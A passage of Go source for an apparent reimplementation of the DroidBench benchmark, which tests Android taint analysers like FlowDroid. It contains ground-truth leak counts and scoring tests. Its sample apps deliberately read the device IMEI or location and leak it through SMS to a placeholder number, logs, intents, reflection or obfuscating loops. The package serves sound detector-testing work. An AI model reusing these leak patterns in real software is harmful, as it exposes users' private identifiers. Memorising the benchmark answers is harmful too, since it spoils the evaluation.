    t = this.imei
`+sendSMS("t")+`
  }
}
`, `  <Button android:id="@+id/button1" android:onClick="sendMessage"/>`,
			"activity:MainActivity"),
	})

	register(Case{
		Name:          "Button2",
		Category:      "Callbacks",
		ExpectedLeaks: 1,
		Note: "Two button combinations: one really leaks; the other " +
			"overwrites the field with a constant before leaking, which only " +
			"a strong-update (must-alias) analysis can prove clean. FlowDroid " +
			"reports a false positive here (no strong updates on fields).",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  field data: java.lang.String
  method onCreate(b: android.os.Bundle): void {
    this.setContentView(@layout/main)
    this.data = "init"
  }
  // Button A: taint the field.
  method clickTaint(v: android.view.View): void {
`+getIMEI+`
    this.data = imei
  }
  // Button B: leak the field (a real leak after A).
  method clickLeak(v: android.view.View): void {
    t = this.data
`+sendSMS("t")+`
  }
  // Button C: always overwrites before logging; never leaks in any real
  // ordering, but field stores are not strong updates.
  method clickSafe(v: android.view.View): void {
    this.data = "safe"
    u = this.data
`+logIt("u")+`
  }
}
`, `  <Button android:id="@+id/b1" android:onClick="clickTaint"/>
  <Button android:id="@+id/b2" android:onClick="clickLeak"/>
  <Button android:id="@+id/b3" android:onClick="clickSafe"/>`,
			"activity:MainActivity"),
	})

	register(Case{
		Name:          "LocationLeak1",
		Category:      "Callbacks",
		ExpectedLeaks: 2,
		Note: "The activity implements LocationListener itself; latitude and " +
			"longitude stored by the callback leak from onResume (2 leaks).",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity
    implements android.location.LocationListener {
  field lat: java.lang.String
  field lon: java.lang.String
  method onCreate(b: android.os.Bundle): void {
    lmRaw = this.getSystemService("location")
    local lm: android.location.LocationManager
    lm = (android.location.LocationManager) lmRaw
    lm.requestLocationUpdates("gps", 0, 0, this)
  }
  method onLocationChanged(loc: android.location.Location): void {
    la = loc.getLatitude()
    las = java.lang.String.valueOf(la)
    this.lat = las
    lo = loc.getLongitude()
    los = java.lang.String.valueOf(lo)
    this.lon = los
  }
  method onProviderEnabled(p: java.lang.String): void {
    return
  }
  method onProviderDisabled(p: java.lang.String): void {
    return
  }
  method onStatusChanged(p: java.lang.String, st: int): void {
    return
  }
  method onResume(): void {
    t1 = this.lat
`+logIt("t1")+`
    t2 = this.lon
`+logIt("t2")+`
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "LocationLeak2",
		Category:      "Callbacks",
		ExpectedLeaks: 2,
		Note: "A dedicated listener object stores the location in its own " +
			"field; two other callbacks of the same listener leak it (2 leaks).",
		Files: mkApp(`
class de.ecspride.Listener implements android.location.LocationListener {
  field data: java.lang.String
  method init(): void {
    return
  }
  method onLocationChanged(loc: android.location.Location): void {
    s = loc.toString()
    this.data = s
  }
  method onProviderEnabled(p: java.lang.String): void {
    t = this.data
`+logIt("t")+`
  }
  method onProviderDisabled(p: java.lang.String): void {
    t = this.data
`+sendSMS("t")+`
  }
  method onStatusChanged(p: java.lang.String, st: int): void {
    return
  }
}
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
    lmRaw = this.getSystemService("location")
    local lm: android.location.LocationManager
    lm = (android.location.LocationManager) lmRaw
    l = new de.ecspride.Listener()
    lm.requestLocationUpdates("gps", 0, 0, l)
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "MethodOverride1",
		Category:      "Callbacks",
		ExpectedLeaks: 1,
		Note: "The activity overrides a framework method (onLowMemory) that " +
			"the system may invoke without any registration — an " +
			"'undocumented callback'.",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  field secret: java.lang.String
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    this.secret = imei
  }
  method onLowMemory(): void {
    t = this.secret
`+logIt("t")+`
  }
}
`, "", "activity:MainActivity"),
	})
}
