package droidbench

// Reflection cases, in the spirit of DroidBench's later Reflection
// category: leaks routed through the java.lang.reflect API. They live in
// the extension registry (Table 1 predates the category) under the
// "Reflection" category; ReflectionCases returns just them for the
// on/off equivalence suite.

// ReflectionCases returns the reflection extension benchmarks.
func ReflectionCases() []Case {
	var out []Case
	for _, c := range ExtraCases() {
		if c.Category == "Reflection" {
			out = append(out, c)
		}
	}
	return out
}

// reflSink is the reflective call target shared by the cases: reachable
// only through the bridges the constant-propagation pass materializes.
const reflSink = `
class de.ecspride.ReflSink {
  method leak(msg: java.lang.String): void {
` + "    android.util.Log.i(\"refl\", msg)\n" + `  }
}
`

func init() {
	registerExtra(Case{
		Name:          "Reflection1",
		Category:      "Reflection",
		ExpectedLeaks: 1,
		Note: "The identifier is leaked through Class.forName with a literal " +
			"class name, newInstance, getMethod(\"leak\") and invoke: every " +
			"name is a string constant, so the constant-propagation pass " +
			"resolves the chain into ordinary call edges.",
		Files: mkApp(reflSink+`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    clz = java.lang.Class.forName("de.ecspride.ReflSink")
    obj = clz.newInstance()
    mth = clz.getMethod("leak")
    rr = mth.invoke(obj, imei)
  }
}
`, "", "activity:MainActivity"),
	})

	registerExtra(Case{
		Name:          "Reflection2",
		Category:      "Reflection",
		ExpectedLeaks: 1,
		Note: "The class name is assembled through a StringBuilder before " +
			"reaching Class.forName: resolution requires the pass to track " +
			"append/toString on builder chains, not just plain literals.",
		Files: mkApp(reflSink+`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    sb = new java.lang.StringBuilder()
    sb.append("de.ecspride.Refl")
    sb.append("Sink")
    cn = sb.toString()
    clz = java.lang.Class.forName(cn)
    obj = clz.newInstance()
    mth = clz.getMethod("leak")
    rr = mth.invoke(obj, imei)
  }
}
`, "", "activity:MainActivity"),
	})

	registerExtra(Case{
		Name:          "Reflection3",
		Category:      "Reflection",
		ExpectedLeaks: 0,
		Note: "The class name comes from the incoming intent — genuinely " +
			"dynamic. No constant analysis can resolve the chain, so the " +
			"would-be leak must NOT be reported; instead the run's soundness " +
			"report lists the opaque sites.",
		Files: mkApp(reflSink+`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    it = this.getIntent()
    cn = it.getStringExtra("cls")
    clz = java.lang.Class.forName(cn)
    obj = clz.newInstance()
    mth = clz.getMethod("leak")
    rr = mth.invoke(obj, imei)
  }
}
`, "", "activity:MainActivity"),
	})

	registerExtra(Case{
		Name:          "Reflection4",
		Category:      "Reflection",
		ExpectedLeaks: 1,
		Note: "The constant class name is returned from a helper method: " +
			"resolution requires interprocedural constant propagation " +
			"through the call and return, not a local scan.",
		Files: mkApp(reflSink+`
class de.ecspride.Config {
  static method sinkClass(): java.lang.String {
    n = "de.ecspride.ReflSink"
    return n
  }
}
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    cn = de.ecspride.Config.sinkClass()
    clz = java.lang.Class.forName(cn)
    obj = clz.newInstance()
    mth = clz.getMethod("leak")
    rr = mth.invoke(obj, imei)
  }
}
`, "", "activity:MainActivity"),
	})
}
