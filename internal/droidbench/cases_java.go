package droidbench

func init() {
	register(Case{
		Name:          "Loop1",
		Category:      "General Java",
		ExpectedLeaks: 1,
		Note: "The taint is obfuscated character by character inside a loop " +
			"(the paper's Listing 1 'must track primitives' pattern).",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    chars = imei.toCharArray()
    obf = ""
    i = 0
  loop:
    if * goto done
    c = chars[i]
    cs = java.lang.String.valueOf(c)
    obf = obf + cs
    i = i + 1
    goto loop
  done:
`+sendSMS("obf")+`
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "Loop2",
		Category:      "General Java",
		ExpectedLeaks: 1,
		Note: "The taint is shuffled through a chain of locals inside a " +
			"loop with a data-dependent exit before leaking.",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    a = imei
    b2 = "seed"
  loop:
    if * goto done
    tmp = b2
    b2 = a
    a = tmp
    goto loop
  done:
    msg = a + b2
`+logIt("msg")+`
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "SourceCodeSpecific1",
		Category:      "General Java",
		ExpectedLeaks: 2,
		Note: "Source-level constructs (conditional expressions, nested " +
			"calls) guard two distinct leaks of the same datum.",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    local msg: java.lang.String
    if * goto alt
    msg = imei
    goto send
  alt:
    msg = imei.substring(1)
  send:
`+sendSMS("msg")+`
    t = de.ecspride.MainActivity.viaHelper(msg)
`+logIt("t")+`
  }
  static method viaHelper(s: java.lang.String): java.lang.String {
    r = s.trim()
    return r
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "StaticInitialization1",
		Category:      "General Java",
		ExpectedLeaks: 1,
		Note: "A static initializer leaks a static field that is written " +
			"before the class's first use at runtime. Soot-style analyses " +
			"assume all static initializers run at program start — before the " +
			"store — so FlowDroid misses this leak.",
		Files: mkApp(`
class de.ecspride.LeakerClass {
  static field data: java.lang.String
  method init(): void {
    return
  }
  // Runs at first use of the class: in real executions this is after
  // onCreate stored the IMEI into the static field.
  static method clinit(): void {
    t = de.ecspride.LeakerClass.data
`+logIt("t")+`
  }
}
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    de.ecspride.LeakerClass.data = imei
    l = new de.ecspride.LeakerClass()
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "UnreachableCode",
		Category:      "General Java",
		ExpectedLeaks: 0,
		Note: "The leaking method is never invoked; a reachability-aware " +
			"analysis must stay silent.",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
    s = "nothing"
`+logIt("s")+`
  }
  method neverCalled(): void {
`+getIMEI+`
`+sendSMS("imei")+`
  }
}
`, "", "activity:MainActivity"),
	})
}
