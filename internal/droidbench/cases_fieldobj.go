package droidbench

func init() {
	register(Case{
		Name:          "FieldSensitivity1",
		Category:      "Field and Object Sensitivity",
		ExpectedLeaks: 0,
		Note: "Taint stored in one field, a different field of the same " +
			"object leaked: field-insensitive tools report a false positive.",
		Files: mkApp(`
class de.ecspride.Datacontainer {
  field secret: java.lang.String
  field description: java.lang.String
  method init(): void {
    return
  }
}
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
    d = new de.ecspride.Datacontainer()
`+getIMEI+`
    d.secret = imei
    d.description = "hello"
    t = d.description
`+sendSMS("t")+`
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "FieldSensitivity2",
		Category:      "Field and Object Sensitivity",
		ExpectedLeaks: 0,
		Note:          "As FieldSensitivity1 but through setter and getter methods.",
		Files: mkApp(`
class de.ecspride.Datacontainer {
  field secret: java.lang.String
  field description: java.lang.String
  method init(): void {
    return
  }
  method setSecret(s: java.lang.String): void {
    this.secret = s
  }
  method setDescription(s: java.lang.String): void {
    this.description = s
  }
  method getDescription(): java.lang.String {
    r = this.description
    return r
  }
}
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
    d = new de.ecspride.Datacontainer()
`+getIMEI+`
    d.setSecret(imei)
    desc = "public"
    d.setDescription(desc)
    t = d.getDescription()
`+logIt("t")+`
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "FieldSensitivity3",
		Category:      "Field and Object Sensitivity",
		ExpectedLeaks: 1,
		Note:          "The tainted field itself is leaked through a getter.",
		Files: mkApp(`
class de.ecspride.Datacontainer {
  field secret: java.lang.String
  field description: java.lang.String
  method init(): void {
    return
  }
  method setSecret(s: java.lang.String): void {
    this.secret = s
  }
  method getSecret(): java.lang.String {
    r = this.secret
    return r
  }
}
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
    d = new de.ecspride.Datacontainer()
`+getIMEI+`
    d.setSecret(imei)
    t = d.getSecret()
`+sendSMS("t")+`
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "FieldSensitivity4",
		Category:      "Field and Object Sensitivity",
		ExpectedLeaks: 1,
		Note: "A deep access path: the taint sits two fields down " +
			"(holder.inner.secret) and is leaked from there.",
		Files: mkApp(`
class de.ecspride.Inner {
  field secret: java.lang.String
  field noise: java.lang.String
  method init(): void {
    return
  }
}
class de.ecspride.Holder {
  field inner: de.ecspride.Inner
  method init(): void {
    i = new de.ecspride.Inner()
    this.inner = i
  }
  method getInner(): de.ecspride.Inner {
    r = this.inner
    return r
  }
}
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
    h = new de.ecspride.Holder()
`+getIMEI+`
    i1 = h.getInner()
    i1.secret = imei
    i2 = h.getInner()
    t = i2.secret
`+sendSMS("t")+`
    u = i2.noise
`+logIt("u")+`
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "InheritedObjects1",
		Category:      "Field and Object Sensitivity",
		ExpectedLeaks: 1,
		Note: "A variable of a supertype holds one of two subclasses chosen " +
			"by an opaque condition; only one implementation returns taint.",
		Files: mkApp(`
class de.ecspride.General {
  method init(): void {
    return
  }
  method getInfo(c: android.content.Context): java.lang.String {
    r = "plain"
    return r
  }
}
class de.ecspride.VarA extends de.ecspride.General {
  method init(): void {
    return
  }
  method getInfo(c: android.content.Context): java.lang.String {
    tmRaw = c.getSystemService("phone")
    local tm: android.telephony.TelephonyManager
    tm = (android.telephony.TelephonyManager) tmRaw
    r = tm.getDeviceId()
    return r
  }
}
class de.ecspride.VarB extends de.ecspride.General {
  method init(): void {
    return
  }
  method getInfo(c: android.content.Context): java.lang.String {
    r = "harmless"
    return r
  }
}
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
    local g: de.ecspride.General
    if * goto other
    g = new de.ecspride.VarA()
    goto use
  other:
    g = new de.ecspride.VarB()
  use:
    ctx = this.getApplicationContext()
    t = g.getInfo(ctx)
`+sendSMS("t")+`
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "ObjectSensitivity1",
		Category:      "Field and Object Sensitivity",
		ExpectedLeaks: 0,
		Note: "Two instances of the same class; the taint is stored in one " +
			"and the other is leaked — object-insensitive analyses merge them.",
		Files: mkApp(`
class de.ecspride.DataStore {
  field field1: java.lang.String
  method init(): void {
    return
  }
}
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
    d1 = new de.ecspride.DataStore()
    d2 = new de.ecspride.DataStore()
`+getIMEI+`
    d1.field1 = imei
    d2.field1 = "clean"
    t = d2.field1
`+sendSMS("t")+`
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "ObjectSensitivity2",
		Category:      "Field and Object Sensitivity",
		ExpectedLeaks: 0,
		Note: "As ObjectSensitivity1, but the stores go through a shared " +
			"setter — requiring deep object sensitivity in the alias analysis.",
		Files: mkApp(`
class de.ecspride.DataStore {
  field field1: java.lang.String
  method init(): void {
    return
  }
  method setField(s: java.lang.String): void {
    this.field1 = s
  }
  method getField(): java.lang.String {
    r = this.field1
    return r
  }
}
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
    d1 = new de.ecspride.DataStore()
    d2 = new de.ecspride.DataStore()
`+getIMEI+`
    d1.setField(imei)
    clean = "clean"
    d2.setField(clean)
    t = d2.getField()
`+sendSMS("t")+`
  }
}
`, "", "activity:MainActivity"),
	})
}
