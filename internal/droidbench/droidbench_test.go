package droidbench

import (
	"testing"
)

func TestSuiteShape(t *testing.T) {
	cases := Cases()
	if len(cases) != 35 {
		t.Errorf("suite has %d cases, want the 35 Table 1 rows", len(cases))
	}
	if got := TotalExpectedLeaks(); got != 28 {
		t.Errorf("total expected leaks = %d, want 28 (recall denominators of Table 1)", got)
	}
	perCat := map[string]int{}
	for _, c := range cases {
		perCat[c.Category]++
		if c.Note == "" {
			t.Errorf("%s: missing note", c.Name)
		}
		if len(c.Files) == 0 {
			t.Errorf("%s: no files", c.Name)
		}
	}
	want := map[string]int{
		"Arrays and Lists":               3,
		"Callbacks":                      6,
		"Field and Object Sensitivity":   7,
		"Inter-App Communication":        3,
		"Lifecycle":                      6,
		"General Java":                   5,
		"Miscellaneous Android-Specific": 5,
	}
	for cat, n := range want {
		if perCat[cat] != n {
			t.Errorf("category %q has %d cases, want %d", cat, perCat[cat], n)
		}
	}
}

// perCaseExpectation is FlowDroid's documented Table 1 behaviour: the
// number of leaks it reports per app (TPs plus its four known false
// positives, minus its two known misses).
var flowDroidExpected = map[string]int{
	"ArrayAccess1": 1, // FP: whole-array tainting
	"ArrayAccess2": 1, // FP: whole-array tainting
	"ListAccess1":  1, // FP: whole-collection tainting

	"AnonymousClass1": 1,
	"Button1":         1,
	"Button2":         2, // 1 TP + 1 FP: no strong updates on fields
	"LocationLeak1":   2,
	"LocationLeak2":   2,
	"MethodOverride1": 1,

	"FieldSensitivity1":  0,
	"FieldSensitivity2":  0,
	"FieldSensitivity3":  1,
	"FieldSensitivity4":  1,
	"InheritedObjects1":  1,
	"ObjectSensitivity1": 0,
	"ObjectSensitivity2": 0,

	"IntentSink1":            0, // miss: result intent has no sink call
	"IntentSink2":            1,
	"ActivityCommunication1": 1,

	"BroadcastReceiverLifecycle1": 1,
	"ActivityLifecycle1":          1,
	"ActivityLifecycle2":          1,
	"ActivityLifecycle3":          1,
	"ActivityLifecycle4":          1,
	"ServiceLifecycle1":           1,

	"Loop1":                 1,
	"Loop2":                 1,
	"SourceCodeSpecific1":   2,
	"StaticInitialization1": 0, // miss: clinit assumed to run at start
	"UnreachableCode":       0,

	"PrivateDataLeak1": 1,
	"PrivateDataLeak2": 1,
	"DirectLeak1":      1,
	"InactiveActivity": 0,
	"LogNoLeak":        0,
}

// TestFlowDroidTable1 reproduces FlowDroid's column of Table 1 exactly:
// 26 true positives, 4 false positives, 2 missed leaks — 86% precision,
// 93% recall, F-measure 0.89.
func TestFlowDroidTable1(t *testing.T) {
	fd := FlowDroid()
	results := RunSuite(fd)
	for _, r := range results {
		if r.Err != nil {
			t.Errorf("%s: analysis error: %v", r.Case.Name, r.Err)
			continue
		}
		want, ok := flowDroidExpected[r.Case.Name]
		if !ok {
			t.Errorf("%s: no expectation recorded", r.Case.Name)
			continue
		}
		if r.Found != want {
			t.Errorf("%s: reported %d leaks, want %d (%s)", r.Case.Name, r.Found, want, r.Case.Note)
		}
	}
	s := Score(results)
	if s.TP != 26 || s.FP != 4 || s.Missed != 2 {
		t.Errorf("totals TP/FP/missed = %d/%d/%d, want 26/4/2", s.TP, s.FP, s.Missed)
	}
	if s.Recall < 0.92 || s.Recall > 0.94 {
		t.Errorf("recall = %.3f, want ≈0.93", s.Recall)
	}
	if s.Precision < 0.85 || s.Precision > 0.88 {
		t.Errorf("precision = %.3f, want ≈0.86", s.Precision)
	}
	if s.F < 0.88 || s.F > 0.91 {
		t.Errorf("F-measure = %.3f, want ≈0.89", s.F)
	}
}

func TestRenderTable(t *testing.T) {
	fd := FlowDroid()
	results := RunSuite(fd)
	out := RenderTable([]string{"FlowDroid"}, [][]CaseResult{results})
	for _, want := range []string{"DirectLeak1", "Precision", "Recall", "F-measure", "Lifecycle"} {
		if !contains(out, want) {
			t.Errorf("table missing %q:\n%s", want, out)
		}
	}
}

func contains(s, sub string) bool {
	return len(s) >= len(sub) && (func() bool {
		for i := 0; i+len(sub) <= len(s); i++ {
			if s[i:i+len(sub)] == sub {
				return true
			}
		}
		return false
	})()
}

// flowDroidExtraExpected documents the extension suite's expected results.
var flowDroidExtraExpected = map[string]int{
	"ThreadLeak1":                 1,
	"ApplicationLifecycle1":       1,
	"MultiComponent1":             1,
	"UnregisteredComponent1":      0,
	"Obfuscation1":                1,
	"SharedPreferencesRoundTrip1": 2,
	"DeepCallChain1":              1,
	"Reflection1":                 1,
	"Reflection2":                 1,
	"Reflection3":                 0,
	"Reflection4":                 1,
}

func TestFlowDroidExtensions(t *testing.T) {
	fd := FlowDroid()
	for _, c := range ExtraCases() {
		want, ok := flowDroidExtraExpected[c.Name]
		if !ok {
			t.Errorf("%s: no expectation recorded", c.Name)
			continue
		}
		found, err := fd.Run(c.Files)
		if err != nil {
			t.Errorf("%s: %v", c.Name, err)
			continue
		}
		if found != want {
			t.Errorf("%s: reported %d leaks, want %d (%s)", c.Name, found, want, c.Note)
		}
	}
	// Extension cases must not pollute the Table 1 registry.
	if len(Cases()) != 35 {
		t.Errorf("Table 1 registry grew to %d cases", len(Cases()))
	}
}
