package droidbench

import (
	"bytes"
	"context"
	"testing"

	"flowdroid/internal/core"
)

// TestReflectionEquivalence pins the reflection pass's determinism and
// its gate. Unlike the string-carrier suite, on and off are NOT expected
// to agree — resolving reflection is precisely what recovers the leaks —
// so the invariants are per mode:
//
//   - reflection on: every case reports its ExpectedLeaks, byte-identical
//     canonical reports at worker counts 1, 2 and 8;
//   - reflection off: the reflective leaks vanish (0 for every case, the
//     chain is invisible without the bridges), again byte-identical
//     across worker counts — i.e. identical to what the pre-reflection
//     analyzer reported.
func TestReflectionEquivalence(t *testing.T) {
	cases := ReflectionCases()
	if len(cases) == 0 {
		t.Fatal("no reflection cases registered")
	}
	for _, c := range cases {
		c := c
		t.Run(c.Name, func(t *testing.T) {
			for _, reflect := range []bool{true, false} {
				var base []byte
				var baseWorkers int
				for _, w := range []int{1, 2, 8} {
					opts := core.DefaultOptions()
					opts.Taint.Workers = w
					opts.ResolveReflection = reflect
					res, err := core.AnalyzeFiles(context.Background(), c.Files, opts)
					if err != nil {
						t.Fatalf("reflection=%v workers=%d: %v", reflect, w, err)
					}
					want := 0
					if reflect {
						want = c.ExpectedLeaks
					}
					if got := len(res.Taint.Leaks); got != want {
						t.Errorf("reflection=%v workers=%d: %d leaks, want %d (%s)",
							reflect, w, got, want, c.Note)
					}
					if !reflect && res.Soundness != nil {
						t.Errorf("workers=%d: reflection off must not emit a soundness report", w)
					}
					js, err := res.Taint.CanonicalJSON()
					if err != nil {
						t.Fatal(err)
					}
					if base == nil {
						base, baseWorkers = js, w
						continue
					}
					if !bytes.Equal(base, js) {
						t.Errorf("reflection=%v: workers=%d report differs from workers=%d:\n%s\nvs\n%s",
							reflect, w, baseWorkers, base, js)
					}
				}
			}
			// The genuinely-dynamic case must land in the soundness report
			// rather than silently disappearing.
			if c.ExpectedLeaks == 0 {
				opts := core.DefaultOptions()
				res, err := core.AnalyzeFiles(context.Background(), c.Files, opts)
				if err != nil {
					t.Fatal(err)
				}
				if res.Soundness == nil || len(res.Soundness.Unresolved) == 0 {
					t.Error("dynamic case resolved nothing yet reported no unresolved sites")
				}
			}
		})
	}
}

// TestReflectionCasesRegistered keeps the extension registry and the
// category filter in sync.
func TestReflectionCasesRegistered(t *testing.T) {
	got := len(ReflectionCases())
	if got != 4 {
		t.Fatalf("ReflectionCases() = %d cases, want 4", got)
	}
	total := 0
	for _, c := range ReflectionCases() {
		total += c.ExpectedLeaks
	}
	if total != 3 {
		t.Fatalf("reflection cases expect %d leaks in total, want 3", total)
	}
}
