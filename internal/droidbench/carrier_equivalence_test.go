package droidbench

import (
	"bytes"
	"context"
	"fmt"
	"testing"

	"flowdroid/internal/core"
)

// TestStringCarrierEquivalence: the string-carrier fast path is pure
// mechanism — every DroidBench case must produce a byte-identical
// canonical leak report with carriers on and off, at worker counts 1, 2
// and 8.
func TestStringCarrierEquivalence(t *testing.T) {
	for _, c := range Cases() {
		c := c
		t.Run(c.Name, func(t *testing.T) {
			var base []byte
			var baseMode string
			for _, carriers := range []bool{true, false} {
				for _, w := range []int{1, 2, 8} {
					opts := core.DefaultOptions()
					opts.Taint.Workers = w
					opts.Taint.StringCarriers = carriers
					res, err := core.AnalyzeFiles(context.Background(), c.Files, opts)
					if err != nil {
						t.Fatalf("carriers=%v workers=%d: %v", carriers, w, err)
					}
					js, err := res.Taint.CanonicalJSON()
					if err != nil {
						t.Fatal(err)
					}
					if base == nil {
						base, baseMode = js, fmt.Sprintf("carriers=%v workers=%d", carriers, w)
						continue
					}
					if !bytes.Equal(base, js) {
						t.Errorf("carriers=%v workers=%d report differs from %s:\n%s\nvs\n%s",
							carriers, w, baseMode, base, js)
					}
				}
			}
		})
	}
}
