// Package droidbench re-implements the DROIDBENCH 1.0 micro-benchmark
// suite (Section 6.1, Table 1 of the paper) on top of the IR app model:
// 35 hand-crafted apps across seven categories, each reproducing one
// specific analysis challenge — array index handling, callback wiring,
// field and object sensitivity, inter-app communication, the Android
// lifecycle, general Java constructs and Android-specific leaks — with
// the original ground truth.
//
// The suite is analyzer-agnostic: the runner scores any function from an
// app package to a leak count, which is how FlowDroid is compared against
// the commercial-tool baselines in internal/baseline.
package droidbench

import (
	"fmt"
	"sort"
	"strings"
)

// Case is one benchmark app with its ground truth.
type Case struct {
	// Name is the app's name as it appears in Table 1.
	Name string
	// Category groups cases as in Table 1.
	Category string
	// ExpectedLeaks is the ground-truth number of leaks.
	ExpectedLeaks int
	// Files is the app package.
	Files map[string]string
	// Note documents what the case tests and any expected analyzer
	// behaviour from the paper.
	Note string
}

// categories in Table 1 order.
var categoryOrder = []string{
	"Arrays and Lists",
	"Callbacks",
	"Field and Object Sensitivity",
	"Inter-App Communication",
	"Lifecycle",
	"General Java",
	"Miscellaneous Android-Specific",
}

var registry []Case

func register(c Case) {
	registry = append(registry, c)
}

// Cases returns all benchmark cases in Table 1 order (by category, then
// registration order within the category).
func Cases() []Case {
	out := append([]Case(nil), registry...)
	rank := make(map[string]int, len(categoryOrder))
	for i, c := range categoryOrder {
		rank[c] = i
	}
	sort.SliceStable(out, func(i, j int) bool {
		return rank[out[i].Category] < rank[out[j].Category]
	})
	return out
}

// CaseByName finds a case.
func CaseByName(name string) (Case, bool) {
	for _, c := range registry {
		if c.Name == name {
			return c, true
		}
	}
	return Case{}, false
}

// TotalExpectedLeaks sums the ground truth over the suite.
func TotalExpectedLeaks() int {
	n := 0
	for _, c := range registry {
		n += c.ExpectedLeaks
	}
	return n
}

// ---------------------------------------------------------------- builders

// pkg is the package name all suite apps share (each app loads into its
// own program, so there is no interference).
const pkg = "de.ecspride"

// mkApp assembles an app package. Component descriptors take the form
// "activity:Name", "service:Name", "receiver:Name", "provider:Name"; a
// "!" suffix on the kind disables the component ("activity!:Name"). The
// layout (if non-empty) becomes res/layout/main.xml.
func mkApp(code, layoutXML string, comps ...string) map[string]string {
	var b strings.Builder
	fmt.Fprintf(&b, `<?xml version="1.0"?>
<manifest xmlns:android="http://schemas.android.com/apk/res/android" package=%q>
  <application>
`, pkg)
	for _, c := range comps {
		kind, name, ok := strings.Cut(c, ":")
		if !ok {
			panic("droidbench: bad component descriptor " + c)
		}
		enabled := ""
		if strings.HasSuffix(kind, "!") {
			kind = strings.TrimSuffix(kind, "!")
			enabled = ` android:enabled="false"`
		}
		fmt.Fprintf(&b, `    <%s android:name=".%s"%s/>
`, kind, name, enabled)
	}
	b.WriteString("  </application>\n</manifest>\n")
	files := map[string]string{
		"AndroidManifest.xml": b.String(),
		"classes.ir":          code,
	}
	if layoutXML != "" {
		files["res/layout/main.xml"] = `<?xml version="1.0"?>
<LinearLayout xmlns:android="http://schemas.android.com/apk/res/android">
` + layoutXML + `
</LinearLayout>`
	}
	return files
}

// getIMEI is the canonical snippet obtaining the device ID (a source);
// it defines locals tmRaw, tm and imei.
const getIMEI = `
    tmRaw = this.getSystemService("phone")
    local tm: android.telephony.TelephonyManager
    tm = (android.telephony.TelephonyManager) tmRaw
    imei = tm.getDeviceId()
`

// sendSMS leaks the given local via SMS; defines local sms.
func sendSMS(local string) string {
	return fmt.Sprintf(`
    sms = android.telephony.SmsManager.getDefault()
    sms.sendTextMessage("+49 1234", null, %s, null, null)
`, local)
}

// logIt leaks the given local via the log sink.
func logIt(local string) string {
	return fmt.Sprintf("    android.util.Log.i(\"DroidBench\", %s)\n", local)
}
