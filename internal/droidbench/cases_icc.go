package droidbench

func init() {
	register(Case{
		Name:          "IntentSink1",
		Category:      "Inter-App Communication",
		ExpectedLeaks: 1,
		Note: "The taint is stored in a result intent handed back to the " +
			"calling activity by the framework (setResult). There is no " +
			"explicit sink call, so FlowDroid misses this leak — setResult is " +
			"deliberately not in the sink list (Section 6.1).",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    i = new android.content.Intent()
    i.putExtra("deviceId", imei)
    this.setResult(0, i)
    this.finish()
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "IntentSink2",
		Category:      "Inter-App Communication",
		ExpectedLeaks: 1,
		Note: "The tainted intent is broadcast to other apps — an explicit " +
			"ICC sink under the over-approximation (sent intents are sinks).",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    i = new android.content.Intent()
    i.setAction("de.ecspride.SECRET")
    i.putExtra("deviceId", imei)
    this.sendBroadcast(i)
  }
}
`, "", "activity:MainActivity"),
	})

	register(Case{
		Name:          "ActivityCommunication1",
		Category:      "Inter-App Communication",
		ExpectedLeaks: 1,
		Note: "Data flows from one activity to another through a start " +
			"intent; starting an activity with a tainted intent is a sink.",
		Files: mkApp(`
class de.ecspride.MainActivity extends android.app.Activity {
  method onCreate(b: android.os.Bundle): void {
`+getIMEI+`
    i = new android.content.Intent()
